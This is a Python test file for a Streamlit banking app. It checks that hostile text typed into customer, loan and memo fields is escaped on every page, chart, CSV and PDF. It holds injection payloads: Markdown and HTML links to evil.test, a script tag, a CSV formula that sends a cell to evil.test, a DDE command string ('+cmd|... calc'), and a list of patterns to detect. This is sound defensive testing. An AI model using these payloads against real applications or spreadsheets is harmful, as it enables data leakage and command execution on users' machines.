"""Text that stays text (issue 12): hostile strings typed into every user-text field come back
as the same characters on every page, table, chart, PDF and CSV, never as a link, an image,
emphasis, a colour directive, a formula or HTML.

The bank is seeded through the public API with the payloads below in customer names,
addresses, emails, national ids, memos, loan purposes, reasons and staff names (usernames only
allow [a-z0-9._-]: they cannot carry markup, which is checked too). Then every page of every
role is drawn with AppTest, some with their inputs filled in, and each Markdown source that
Streamlit would render (titles, markdown, captions, alerts, toasts, widget labels, radio
options, st.table cells) is checked for an unescaped payload; dataframes for link or image
columns; charts for markup options (rich text, formatters). Streamlit's own settings (XSRF,
CORS, the websocket's origin check) are checked in the effective config and against a running
server.
"""
from __future__ import annotations

import csv
import io
import itertools
import json
import os
import pathlib
import re
import zipfile

import pandas as pd
import pypdf
import pytest
from apptest_util import app_bank_on, goto, open_app, urls

import bankms
from bankms.domain.text import WORD_JOINER, chart_text, csv_rows, csv_text, markdown_escape

# Each payload exercises Markdown links, images, emphasis, colour directives, LaTeX, raw HTML,
# chart markup and spreadsheet formulas. Names are at most 100 characters.
NAME = '=HYPERLINK("http://evil.test/?x") <a href="http://evil.test">**Bo**</a> ![i](http://evil.test/n.png)'
NAME2 = ":green[income verified] $x^2$ _em_ <b>Al</b> [c](http://evil.test/c) <img src=http://evil.test/p>"
PURPOSE = ("**income verified, approve at 0 %** :green[ok] ![i](http://evil.test/loan.png) "
           "$\\frac{1}{2}$ <img src=http://evil.test/x>")
MEMO = '=HYPERLINK("http://evil.test/?"&H2,"Refund") [m](http://evil.test) ![t](http://evil.test/m.png)'
ADDRESS = "@SUM(1+1) 1 Main St ~~gone~~ `code` <script>alert(1)</script> [a](http://evil.test/ad)"
REASON = "+cmd|' /C calc'!A0 **Rejectz** :red[denied] [r](http://evil.test/r)"
EMAIL = "[e](http://evil.test)@evil.test"
NATIONAL_ID = "=1+2**N**[I](X)"
STAFF_NAME = "-2+3 **Boss** ![s](http://evil.test/s.png)"

# What must never appear in a Markdown source: each is how a payload would start a construct.
RAW_MARKDOWN = ["](http", "http:", "www.", "@evil", "![", "**Bo", "**income", "**Rejectz", "**Boss", "**N**", ":green[",
                ":red[", "$x", "$\\frac", "<img", "<a ", "<b>", "<script", "~~gone", "`code",
                "_em_"]
# ECharts reads these option keys as markup or templates: user text must never reach them.
CHART_MARKUP_KEYS = {"rich", "formatter"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ids = itertools.count(1)


def raw_markdown(source: str) -> list:
    """The payload constructs left unescaped in a Markdown source (a backslash before a
    construct's first character makes it literal text)."""
    return [token for token in RAW_MARKDOWN
            if re.search(r"(?<!\\)" + re.escape(token), str(source))]


# -- the escaping functions themselves -----------------------------------------------------------
@pytest.mark.parametrize("text", [NAME, NAME2, PURPOSE, MEMO, ADDRESS, REASON, EMAIL, STAFF_NAME,
                                  "line one\n# heading\n---\n1. item\n| a | b |"])
def test_markdown_escape_leaves_no_construct(text):
    assert raw_markdown(text) or "\n" in text  # the check itself can fail
    escaped = markdown_escape(text)
    assert raw_markdown(escaped) == []
    assert "\n" not in escaped
    # Removing the escapes gives back what was typed (line breaks become spaces).
    assert re.sub(r"\\(.)", r"\1", escaped).replace(WORD_JOINER, "") == " ".join(text.split("\n"))


@pytest.mark.parametrize("text, shown", [
    ('<a href="http://evil.test">x</a>', '<a href="http://evil.test">x</a>'),  # drawn as text
    ("{b|bold} & <br>", "{b|bold} & <br>"),
    ("line one\nline two\r\nthree", "line one line two three"),
    ("plain", "plain"),
    (None, ""),
])
def test_chart_text(text, shown):
    assert chart_text(text) == shown


@pytest.mark.parametrize("cell, written", [
    ("=HYPERLINK(\"http://evil.test\")", "'=HYPERLINK(\"http://evil.test\")"),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\nx"),          # a CR inside a cell is written as a quoted line break
    ("|cmd", "'\\|cmd"),
    ("-12.50", "-12.50"),      # a negative amount as text stays a number
    ("1,234.50", "1,234.50"),
    (-1250, "-1250"),          # numbers are never touched
    (bankms.to_decimal("-12.50"), "-12.50"),
    (None, ""),
    ("Jane", "Jane"),
])
def test_csv_cells_are_inert(cell, written):
    text = csv_rows([[cell]])
    assert next(csv.reader(io.StringIO(text, newline="")))[0] == written


def test_csv_text_of_a_frame_keeps_numbers_and_defuses_text():
    df = pd.DataFrame({"name": [NAME, "Ann"], "amount": [bankms.to_decimal("-5.00"), 7],
                       "when": pd.to_datetime(["2026-01-02 03:04:05", None])})
    rows = list(csv.reader(io.StringIO(csv_text(df))))
    assert rows[0] == ["name", "amount", "when"]
    assert rows[1] == ["'" + NAME, "-5.00", "2026-01-02 03:04:05"]
    assert rows[2] == ["Ann", "7", ""]


# -- a bank full of hostile text ----------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The app's own Bank (pages.common.get_bank) seeded with the payloads; returns facts."""
    with app_bank_on(str(tmp_path_factory.mktemp("text_safety") / "bank.duckdb")) as bank:
        yield bank, _seed(bank)


def _seed(bank) -> dict:
    system = bank.system_actor()
    facts = {}

    def person(name, **extra):
        fields = dict(full_name=name, email=EMAIL, phone="+1 555 0100",
                      date_of_birth="1990-01-02", national_id=f"{NATIONAL_ID}{next(_ids)}",
                      address=ADDRESS)
        fields.update(extra)
        return bank.customers.create(system, **fields)

    for role in ("manager", "teller"):
        bank.users.create(system, username=f"{role}1", password="a long test password 1",
                          role=role, full_name=STAFF_NAME)
    bank.users.create(system, username="manager2", password="a long test password 1",
                      role="manager", full_name=STAFF_NAME)
    facts["manager"] = bank.auth.login("manager1", "a long test password 1")
    facts["manager2"] = bank.auth.login("manager2", "a long test password 1")
    facts["teller"] = bank.auth.login("teller1", "a long test password 1")

    cid, cid2 = person(NAME), person(NAME2)
    facts["customer_id"], facts["customer_id2"] = cid, cid2
    a1 = bank.accounts.open(system, cid, kind="checking")
    a2 = bank.accounts.open(system, cid2, kind="checking")
    facts["account"], facts["account2"] = a1, a2
    bank.payments.deposit(system, a1, "90000.00", memo=MEMO)
    bank.payments.deposit(system, a2, "80000.00", memo=MEMO)
    receipt = bank.payments.transfer(system, a1, a2, "12.34", memo=MEMO)
    facts["transfer_id"] = receipt.transaction_id
    bank.customers.update_contact(system, cid2, address=ADDRESS)
    bank.users.create(system, username="cust1", password="a long test password 1",
                      role="customer", customer_id=cid)
    facts["customer"] = bank.auth.login("cust1", "a long test password 1")
    # Issue 10's customer and staff text: a standing order's memo (typed by the customer)
    # and a charge's reason (typed by a teller), shown on the staff pages.
    bank.standing_orders.create(facts["customer"], source_account=a1, target_account=a2,
                                amount="10.00", frequency="monthly", day_of_month=5,
                                start_date=bank.business_date, memo=MEMO,
                                idempotency_key="hostile-so")
    bank.charges.define(facts["manager"], "hostile_fee", name=STAFF_NAME, calc="flat",
                        amount="1.00")
    bank.charges.apply(facts["teller"], a1, "hostile_fee", reason=REASON,
                       idempotency_key="hostile-charge")
    # A payment waiting for a second manager, with the hostile memo.
    facts["pending"] = bank.payments.withdraw(facts["teller"], a1, "20000.00", memo=MEMO)
    # A loan application with a hostile purpose (waiting), one rejected with a hostile reason.
    product = bank.loans.products().iloc[0]
    for _ in range(2):
        loan_id = bank.loans.apply(facts["customer"], cid, product=product["code"],
                                   principal=str(product["amount_min"]),
                                   term_months=int(product["term_min_months"]),
                                   purpose=PURPOSE, monthly_income="9000")
    facts["loan_id"] = loan_id
    bank.loans.reject(facts["manager"], loan_id, reason=REASON)
    # A self-registered name, waiting for verification.
    facts["pending_customer"] = bank.customers.register(
        full_name=NAME2, email=EMAIL, phone="+1 555 0102", date_of_birth="1992-03-04",
        national_id=f"{NATIONAL_ID}R", address=ADDRESS, username="pete1",
        password="a long test password 1")
    facts["pending_actor"] = bank.auth.login("pete1", "a long test password 1")
    return facts


def _markdown_sources(at) -> list:
    """(what, Markdown source) for everything on the page that Streamlit renders as Markdown."""
    found = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "success", "info",
                 "warning", "error", "toast", "exception"):
        for element in getattr(at, kind, []):
            found.append((kind, element.value if kind != "exception" else element.message))
    for kind in ("text_input", "text_area", "selectbox", "multiselect", "radio", "checkbox",
                 "button", "number_input", "date_input", "toggle", "expander", "tabs", "metric"):
        for element in getattr(at, kind, []):
            found.append((f"{kind} label", getattr(element, "label", "")))
            if kind == "radio":  # radio options render Markdown too
                found += [("radio option", option) for option in element.options]
    for table in at.table:
        frame = table.value
        found += [("table header", str(c)) for c in frame.columns]
        found += [("table cell", str(v)) for v in frame.astype(str).to_numpy().ravel()]
    return found


def _check_page(at, where) -> str:
    """Assert nothing on the page renders a payload; return all its text (for 'shown' checks)."""
    assert not at.exception, (where, at.exception)
    problems = [(what, source) for what, source in _markdown_sources(at) if raw_markdown(source)]
    assert problems == [], where
    texts = []
    for frame in at.dataframe:
        config = frame.proto.columns  # the column configuration as JSON
        assert '"link"' not in config and '"image"' not in config, (where, config)
        texts.append(frame.value.to_string())
    for chart in at.get("echarts_chart"):
        spec = json.loads(chart.proto.spec)
        strings, keys = [], set()

        def walk(node):
            if isinstance(node, dict):
                keys.update(node)
                for value in node.values():
                    walk(value)
            elif isinstance(node, list):
                for value in node:
                    walk(value)
            elif isinstance(node, str):
                strings.append(node)
        walk(spec)
        # ECharts draws labels, names and titles as text; only rich text and formatter
        # templates read markup, and a line break would let a name spill over its neighbours.
        assert keys & CHART_MARKUP_KEYS == set(), (where, keys & CHART_MARKUP_KEYS)
        assert [s for s in strings if "\n" in s] == [], where
        texts.extend(strings)
    texts += [source for _, source in _markdown_sources(at)]
    return re.sub(r"\\(.)", r"\1", "\n".join(texts)).replace(WORD_JOINER, "")


# The inputs to fill on some pages so that they show a customer, an account or a loan.
def _inputs(facts):
    return {
        "reversals": [("Transaction id", str(facts["transfer_id"]))],
        "loan-applications": [("Customer number", str(facts["customer_id"]))],
        "take-loan-payment": [("Loan number", str(facts["loan_id"]))],
        "loan-review": [("Loan number", str(facts["loan_id"]))],  # the corrections
        "customers": [("Name, phone, email, customer id or account number",
                       str(facts["customer_id"]))],
        "accounts": [("Account number", facts["account"])],
        "statements": [("Account number", facts["account"])],
        "account-charges": [("Account number", facts["account"])],
        "standing-orders": [("Customer id", str(facts["customer_id"]))],
        "term-deposits": [("Customer id", str(facts["customer_id"]))],
    }


# Pages whose tabs run only when open (st.tabs on_change="rerun"): url -> the tabs' state key.
# Every tab is opened in turn, and the inputs above are filled in each tab that has them.
LAZY_TABS = {"loan-review": "review_tab", "general-ledger": "ledger_tab",
             "bank-operations": "ops_tab", "loan-products": "lp_tab",
             "deposit-products": "dp_tab"}


ROLES = ["manager", "teller", "customer", "pending_actor"]


@pytest.mark.parametrize("role", ROLES)
def test_every_page_of_every_role_shows_hostile_text_as_text(hostile, role):
    bank, facts = hostile
    actor = facts[role]
    at = open_app(bank, actor)
    offered = sorted(u for u in urls(at) if u)
    assert offered, role
    inputs = _inputs(facts)
    shown, opened = [], []
    for url in offered:
        goto(at, url)
        shown.append(_check_page(at, (role, url)))
        tabs = [t.label for t in at.tabs] if url in LAZY_TABS else [None]
        for tab in tabs:
            if tab is not None:
                opened.append((url, tab))
                at.session_state[LAZY_TABS[url]] = tab
                at.run()
                shown.append(_check_page(at, (role, url, tab)))
            for label, value in inputs.get(url, []):
                boxes = [w for w in at.text_input if w.label == label]
                if boxes:
                    boxes[0].input(value)
                    at.run()
                    shown.append(_check_page(at, (role, url, tab, label)))
    everything = "\n".join(shown)
    # The payloads did reach the pages (the checks above looked at real hostile text).
    if role in ("manager", "teller"):
        assert "**Bo**" in everything or ":green[income verified]" in everything, role
    if role == "manager":
        assert "**income verified, approve at 0 %**" in everything  # the loan review
        # The corrections tab's loan history, reached by opening the tab.
        assert any(url == "loan-review" and tab == "Corrections" for url, tab in opened)
        assert '=HYPERLINK("http://evil.test/?"&H2' in everything    # a memo
    if role == "customer":
        assert "**Rejectz**" in everything  # the rejected loan's reason


def test_usernames_cannot_carry_markup(hostile):
    bank, facts = hostile
    for username in ("[x](http://evil.test)", "**boss**", "=cmd", "<img>"):
        with pytest.raises(bankms.BankError):
            bank.users.create(bank.system_actor(), username=username,
                              password="a long test password 1", role="teller", full_name="X")


def test_a_refusal_that_quotes_user_text_is_escaped(hostile):
    """An error message with the typed email in it (clean_email quotes it) shows as text."""
    bank, facts = hostile
    at = open_app(bank, facts["teller"], "customers")
    tab_inputs = {w.label: w for w in at.text_input if (w.key or "").startswith("onboard_")}
    if not tab_inputs:
        pytest.skip("the onboarding form has no keyed inputs to fill")
    for label, value in (("Full name", "Eve"), ("National id", "X1"), ("Address", "A"),
                         ("Phone", "+1 555 0100"), ("Email", "**x** [y](http://evil.test)")):
        if label in tab_inputs:
            tab_inputs[label].input(value)
    submit = [b for b in at.button if "onboard" in (b.key or "") or b.label == "Onboard"]
    if not submit:
        pytest.skip("no onboarding submit button found")
    submit[0].click()
    at.run()
    shown = _check_page(at, "onboarding refusal")
    assert at.error and "**x** [y](http://evil.test)" in shown  # quoted, and only as text


# -- CSV, PDF -----------------------------------------------------------------------------------
def _no_formula_cells(text: str, where):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START):
                # Only plain numbers (negative amounts) may start with '-'.
                assert cell.startswith("-") and cell[1:].replace(",", "").replace(".", "").isdigit(), \
                    (where, cell)


def test_every_csv_is_inert(hostile):
    bank, facts = hostile
    manager, customer = facts["manager"], facts["customer"]
    history = bank.accounts.history(customer, facts["account"])
    from bankms.services.accounts import history_csv
    text = history_csv(history)
    assert "'=HYPERLINK" in text
    _no_formula_cells(text, "history")
    today = bank.reports.today()
    s = bank.reports.statement(customer, facts["account"], today.year, today.month)
    _no_formula_cells(s.to_csv(), "statement")
    assert "'=HYPERLINK" in s.to_csv()
    with zipfile.ZipFile(io.BytesIO(bank.reports.statements_zip(manager, today.year,
                                                                today.month))) as zf:
        names = [n for n in zf.namelist() if n.endswith(".csv")]
        assert names
        for name in names:
            _no_formula_cells(zf.read(name).decode(), name)
    # The managers' reports: every query the dashboard and the customer reports download.
    from bankms.reporting import analytics
    from bankms.reporting.reports import with_money
    f = bank.reports.filters()
    checked = 0
    for name in sorted(set(getattr(analytics, "DASHBOARD", {})) | set(getattr(analytics, "CUSTOMER", {}))):
        try:
            df = bank.reports.query(manager, name, f)
        except bankms.BankError:
            continue
        if isinstance(df, pd.DataFrame):
            _no_formula_cells(csv_text(with_money(df)), name)
            checked += 1
    assert checked >= 5
    top = bank.reports.query(manager, "top_customers", f)
    cells = [cell for row in csv.reader(io.StringIO(csv_text(with_money(top)))) for cell in row]
    assert "'" + NAME in cells


def test_pages_offer_csv_only_through_the_helper():
    """No page or bankms module writes CSV any other way (grep). The one exception is the
    auditor's bundle (bankms/reporting/export_check.py owns its format): its files are for machines,
    hashed, chained and signed, and formula escaping would change the very bytes an auditor
    recomputes; it is offered only inside a signed zip, never as a spreadsheet download."""
    root = pathlib.Path(__file__).resolve().parents[1]
    offenders = []
    for path in [*root.glob("pages/*.py"), *root.glob("bankms/**/*.py")]:
        if path.name == "export_check.py":
            continue
        text = path.read_text()
        if ".to_csv(" in text.replace("s.to_csv(", "").replace("self.to_csv(", "") \
                or "csv.writer(" in text:
            offenders.append(path.name)
    assert offenders == []


@pytest.mark.parametrize("name", ["محمد عبد الله", "王小明", "Zoë 😀 Smith 🦄",
                                  "Ünal " + "Verylongname " * 7])
def test_pdfs_print_any_script(bank, name):
    from bankms.reporting.receipts import receipt_pdf
    system = bank.system_actor()
    cid = bank.customers.create(system, full_name=name, email="z@example.com",
                                phone="+1 555 0100", date_of_birth="1990-01-02",
                                national_id=f"PDF{next(_ids)}", address="1 Main St")
    number = bank.accounts.open(system, cid, kind="checking")
    receipt = bank.payments.deposit(system, number, "10.00", memo=f"for {name}")
    today = bank.reports.today()
    statement = bank.reports.statement(system, number, today.year, today.month)
    details = bank.payments.receipt_details(system, receipt.transaction_id)
    expected = name.replace("🦄", "\ufffd")  # DejaVu has 😀 but no unicorn: a replacement mark
    for pdf in (statement.to_pdf(), receipt_pdf(details)):
        text = " ".join(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text().split())
        assert "?" * 3 not in text
        if name.startswith("Ünal"):
            # A long name wraps: every word is there and the account number is still printed.
            assert text.count("Verylongname") >= 7 and number in text
        else:
            assert " ".join(expected.split()) in text, text[:300]


# -- Streamlit's own protections ----------------------------------------------------------------
def test_effective_streamlit_config_has_protections_on():
    from streamlit import config
    root = pathlib.Path(__file__).resolve().parents[1]
    cwd = os.getcwd()
    os.chdir(root)
    try:
        config._config_options = None  # read .streamlit/config.toml of the repo afresh
        config.get_config_options(force_reparse=True)
        assert config.get_option("server.enableXsrfProtection") is True
        assert config.get_option("server.enableCORS") is True
        assert list(config.get_option("server.corsAllowedOrigins")) == []
        assert config.get_option("client.disableDataExport") is True
        assert config.get_option("global.developmentMode") is False
    finally:
        os.chdir(cwd)
        config.get_config_options(force_reparse=True)


def test_running_server_refuses_other_origins(tmp_path):
    """A page on another host may neither open the websocket nor read answers (CORS)."""
    import asyncio
    import concurrent.futures
    import urllib.request

    from browser.helpers import Server

    websockets = pytest.importorskip("websockets")
    server = Server(tmp_path / "server")
    try:
        host = server.url.removeprefix("http://")

        async def handshake(origin):
            headers = {"Origin": origin} if origin else {}
            try:
                async with websockets.connect(f"ws://{host}/_stcore/stream",
                                              additional_headers=headers,
                                              subprotocols=["streamlit"], open_timeout=10):
                    return "open"
            except websockets.exceptions.InvalidStatus as exc:
                return exc.response.status_code
            except Exception as exc:  # noqa: BLE001 - any refusal counts, shown if unexpected
                return repr(exc)

        def run(origin):
            # A thread of its own: Playwright's sync API (browser tests earlier in the same
            # run) leaves an event loop on this thread, and asyncio.run refuses to nest.
            with concurrent.futures.ThreadPoolExecutor(1) as pool:
                return pool.submit(asyncio.run, handshake(origin)).result()

        assert run(server.url) == "open"  # the app's own page
        refused = run("http://evil.test")
        assert refused == 403, refused
        request = urllib.request.Request(server.url + "/_stcore/health",
                                         headers={"Origin": "http://evil.test"})
        with urllib.request.urlopen(request, timeout=10) as reply:
            allowed = reply.headers.get("Access-Control-Allow-Origin")
        assert allowed in (None, "") or allowed not in ("*", "http://evil.test")
    finally:
        server.stop()
